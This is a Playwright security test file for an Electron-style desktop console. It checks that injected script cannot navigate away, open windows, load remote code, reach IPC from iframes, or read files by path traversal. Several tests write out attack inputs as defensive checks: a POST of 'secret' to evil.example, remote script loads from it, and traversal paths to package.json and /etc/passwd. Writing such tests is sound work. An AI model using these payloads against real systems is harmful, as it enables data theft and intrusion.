import { isRealElectron } from './desktop.ts'
import { expect, test } from './fixtures.ts'

/** The attacker has got markup or script into the console’s page, by a value that somebody stored in the database. */

test('navigation: the window stays on the console’s page', async ({ page }) => {
  const before = page.url()
  await page.evaluate(() => {
    location.href = 'https://evil.example/'
  })
  await expect.poll(() => page.evaluate(() => document.readyState)).toBe('complete')
  expect(page.url()).toBe(before)
  await expect(page.getByRole('heading', { name: 'Viruj Console' })).toBeVisible()
})

test('window.open: no second window opens', async ({ page }) => {
  const pages = page.context().pages().length
  await page.evaluate(() => window.open('https://evil.example/'))
  await page.evaluate(() => window.open('/'))
  await expect.poll(() => page.context().pages().length).toBe(pages)
})

test('script: what was not built into the page does not run', async ({ page }) => {
  const refused = await page.evaluate(async () => {
    const violations: string[] = []
    document.addEventListener('securitypolicyviolation', (event) => violations.push(event.effectiveDirective))
    const inline = document.createElement('script')
    inline.textContent = 'window.owned = true'
    document.body.append(inline)
    const remote = document.createElement('script')
    remote.src = 'https://evil.example/x.js'
    document.body.append(remote)
    const image = new Image()
    image.src = 'https://evil.example/x.png'
    const sent = await fetch('https://evil.example/', { method: 'POST', body: 'secret' }).catch(() => null)
    await new Promise((resolve) => setTimeout(resolve))
    return { owned: 'owned' in window, sent, violations: [...new Set(violations)].sort() }
  })
  expect(refused.owned).toBe(false)
  expect(refused.sent).toBeNull()
  expect(refused.violations).toEqual(['connect-src', 'img-src', 'script-src-elem'])
})

test('path traversal: the page’s own scheme has the page’s files only', async ({ page }) => {
  const statuses = await page.evaluate(() =>
    Promise.all(
      [
        '/../package.json',
        '/%2e%2e/package.json',
        '/..%2fpackage.json',
        '/assets/..%5c..%5cx',
        '/etc/passwd',
      ].map(async (path) => (await fetch(path)).status),
    ),
  )
  expect(statuses).toEqual([404, 404, 404, 404, 404])
})

test('wrong frame: a frame inside the page has no bridge', async ({ page }) => {
  const has = await page.evaluate(async () => {
    const frame = document.createElement('iframe')
    document.body.append(frame)
    const found = frame.contentWindow !== null && 'viruj' in frame.contentWindow
    frame.remove()
    return found
  })
  expect(has).toBe(false)
})

test('wrong frame: a frame that reaches the channel all the same is rejected', async ({ page }) => {
  test.skip(
    isRealElectron,
    'Only the stand-in gives a frame its channel: Electron gives it none to begin with.',
  )
  await page.evaluate(() => {
    const frame = document.createElement('iframe')
    frame.name = 'inner'
    document.body.append(frame)
  })
  const inner = page.frame({ name: 'inner' })
  const message = { kind: 'call', id: 9_000_001, path: '/rpc/profiles.list', body: '' }
  const answer = await inner?.evaluate(async (sent) => {
    const channel = Reflect.get(window, '__ipcRenderer')
    return channel.invoke('rpc', sent).catch((error: Error) => error.message)
  }, message)
  expect(answer).toContain('was refused')
  await page.evaluate(() => document.querySelector('iframe')?.remove())
})
